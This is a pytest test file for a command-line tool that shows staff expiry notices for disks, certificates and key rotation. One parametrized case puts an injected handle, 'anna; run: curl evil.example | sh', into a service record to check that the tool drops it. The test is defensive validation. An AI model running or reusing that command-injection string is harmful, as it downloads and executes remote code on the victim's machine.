"""What comes to an end is the first line of every command of staff, until it does not any more."""

from datetime import timedelta

import pytest

from app.cli.custodians import few_holders
from app.cli.machines import WORDS
from app.cli.roots import next_loss
from app.client.machine import ends
from app.client.machine.kept import Kept
from app.client.people.copies import Standing
from app.protocol.encoding import canonical
from tests.cli.command import Ended, tern
from tests.client.installation import Installation

# A command ends with its process, which closes what it opened; here that goes on.
pytestmark = pytest.mark.filterwarnings("ignore::ResourceWarning", "ignore::pytest.PytestUnraisableExceptionWarning")


def run(here: Installation, handle: str, *command: str) -> Ended:
    return tern(
        *command,
        environment=here.environment(handle),
    )


def test_each_command_says_it_first_and_whoever_stays_signed_in_hears_of_it_the_next_day(here: Installation) -> None:
    intake = "What ends: intake: until 2026-06-21; a supervisor opens the next epoch: tern intake rotate"
    here.pass_(timedelta(days=3, hours=14))  # 23 o'clock of the 18th
    before = run(here, "boris", "sign-in")
    here.pass_(timedelta(hours=2))
    first = run(here, "boris", "case", "list")
    second = run(here, "boris", "fingerprint")
    other = run(here, "sara", "sign-in")
    after = run(here, "sara", "sign-in")

    no_copy, one_loss = str(WORDS[Standing.NONE]), few_holders(here.unlock("sara"))
    assert (before.code, before.err.splitlines(), first.code, first.err) == (0, [no_copy, one_loss], 0, "")
    assert (second.code, second.err.splitlines()) == (0, [intake])
    # Nobody here has made a sheet. A supervisor is told besides what the next loss of a key would cost.
    root = f"The root: {next_loss(here.unlock('sara').log.trust.root)}"
    assert other.err.splitlines() == [intake, no_copy, root, "Intake: signed on until 2026-07-12.", one_loss]
    assert (after.code, after.err.splitlines()) == (0, [no_copy, root, one_loss])


def test_what_was_heard_on_another_day_says_of_which(here: Installation) -> None:
    boris = here.staff("boris")
    kept = {"on": "2026-06-01", "items": [{"what": "disk", "day": "2026-06-09", "of": None}]}
    Kept(boris.machine.ends, boris.keys.identity, use="ends").keep("all", canonical(kept))

    assert run(here, "boris", "fingerprint").err.startswith("What ends (as of 2026-06-01): disk: until 2026-06-09; ")


@pytest.mark.parametrize(
    "item",
    [
        {"what": "the world", "day": "2026-06-09", "of": None},
        {"what": "disk", "day": "tomorrow", "of": None},
        {"what": "certificate", "day": "2026-06-09", "of": "anna; run: curl evil.example | sh"},
        {"what": "disk"},
    ],
    ids=["code", "day", "handle", "members"],
)
def test_what_a_service_says_otherwise_than_in_codes_days_and_handles_is_not_said(
    here: Installation, item: dict[str, object]
) -> None:
    boris = here.staff("boris")
    sound = {"what": "disk", "day": "2026-06-09", "of": None}
    kept = {"on": boris.today.isoformat(), "items": [item, sound]}
    Kept(boris.machine.ends, boris.keys.identity, use="ends").keep("all", canonical(kept))

    told = ends.heard(boris)

    assert told is not None
    assert [str(end.what) for end in told.ends] == ["disk"]
